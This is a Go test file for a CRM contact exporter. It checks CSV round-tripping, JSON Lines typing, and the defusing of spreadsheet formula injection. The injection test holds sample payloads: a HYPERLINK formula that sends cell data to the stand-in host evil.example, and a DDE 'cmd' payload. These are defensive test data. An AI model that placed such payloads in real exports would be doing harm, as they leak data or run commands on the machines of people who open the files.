package export_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"kith/internal/contactfile"
	"kith/internal/crm"
	"kith/internal/export"
	"kith/internal/service"
)

var at = time.Date(2026, 1, 2, 3, 4, 5, 600000000, time.UTC)

func written(t *testing.T, f export.Format, columns []export.Column, contacts ...service.ExportedContact) string {
	t.Helper()
	var b bytes.Buffer
	w := export.NewWriter(&b, f, columns)
	if err := errors.Join(w.Begin(false), w.Write(contacts)); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func named(name string) service.ExportedContact {
	return service.ExportedContact{Contact: crm.Contact{Name: &name, Notes: name, CreatedAt: at, UpdatedAt: at, Version: 1}}
}

func TestCSVIsReadBackAsItWasWritten(t *testing.T) {
	t.Parallel()
	for _, name := range []string{
		"", "Ann", "Smith, Ann", `Ann "the" Smith`, `"`, "two\nlines", "two\r\nlines", "a\rb", " Ann ", "a;b", "a\tb", "Zoë 日本 😀", "O'Neil", "'n Sync",
	} {
		text := written(t, export.CSV, []export.Column{"id", "name", "version"}, named(name), named("next"))
		// Go's reader makes \n of \r\n within quotes.
		r := csv.NewReader(strings.NewReader(text))
		rows, err := r.ReadAll()
		if err != nil || len(rows) != 3 || rows[1][1] != strings.ReplaceAll(name, "\r\n", "\n") || rows[2][1] != "next" {
			t.Errorf("%q was read from %q as %q, %v", name, text, rows, err)
		}
		for line := range strings.SplitAfterSeq(strings.ReplaceAll(text, name, ""), "\n") {
			if line != "" && !strings.HasSuffix(line, "\r\n") {
				t.Errorf("the line %q ends in no CRLF", line)
			}
		}
	}
}

func TestNoCellOfCSVIsAFormula(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		`=HYPERLINK("https://evil.example?"&A1,"x")`: `'=HYPERLINK("https://evil.example?"&A1,"x")`,
		"+1+cmd|' /C calc'!A0":                       "'+1+cmd|' /C calc'!A0",
		"-2+3":                                       "'-2+3",
		"@SUM(1)":                                    "'@SUM(1)",
		"\t=1":                                       "'\t=1",
		"\r=1":                                       "'\r=1",
		"\n=1":                                       "'\n=1",
		"＝1":                                         "'＝1",
		"'=1":                                        "''=1",
		"''@":                                        "'''@",
		"+":                                          "'+",
		"-":                                          "'-",
		"+49 30 901820":                              "'+49 30 901820",
		"+4930901820":                                "+4930901820",
		"'n Sync":                                    "'n Sync",
		"'":                                          "'",
		"":                                           "",
		"Ann=1":                                      "Ann=1",
	} {
		if got := contactfile.Defuse(text); got != want {
			t.Errorf("%q was made %q, want %q", text, got, want)
		}
		if got := contactfile.Restore(contactfile.Defuse(text)); got != text {
			t.Errorf("%q was brought back as %q", text, got)
		}
	}
	c := named("=1+1")
	c.Email, c.Phone = new("=a@example.com"), new("+4930901820")
	c.Further = []crm.FurtherValue{{Field: "phone", Value: "+4930901821"}, {Field: "phone", Value: "+4930901822"}}
	got := written(t, export.CSV, []export.Column{"name", "email", "phone", "notes", "displayName", "furtherPhones"}, c)
	want := "name,email,phone,notes,displayName,furtherPhones\r\n'=1+1,'=a@example.com,+4930901820,'=1+1,'=1+1,\"'+4930901821; +4930901822\"\r\n"
	if got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	if json := written(t, export.JSONL, []export.Column{"name"}, c); json != `{"name":"=1+1"}`+"\n" {
		t.Errorf("JSON Lines hold %q", json)
	}
}

func TestJSONLinesHaveEveryColumnWithItsType(t *testing.T) {
	t.Parallel()
	c := named("two\nlines \"\\ 😀")
	c.ID = crm.NewContactID(at)
	c.Email = new("ann@example.com")
	c.Further = []crm.FurtherValue{{Field: "email", Value: "a@example.com"}}
	text := written(t, export.JSONL, slices.DeleteFunc(export.AllColumns(), func(c export.Column) bool { return c == export.Cursor }), c, named("x"))
	if strings.Count(text, "\n") != 2 {
		t.Errorf("lines %q", text)
	}
	var got map[string]any
	if err := json.Unmarshal([]byte(text[:strings.Index(text, "\n")]), &got); err != nil {
		t.Fatal(err)
	}
	want := map[string]any{
		"id": c.ID.String(), "name": *c.Name, "displayName": *c.Name, "email": "ann@example.com", "phone": nil, "notes": *c.Name,
		"furtherEmails": []any{"a@example.com"}, "furtherPhones": []any{}, "emailVerified": false, "phoneVerified": false, "version": 1.0,
		"createdAt": "2026-01-02T03:04:05.6Z", "updatedAt": "2026-01-02T03:04:05.6Z", "lastActivityAt": nil, "identities": nil,
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}
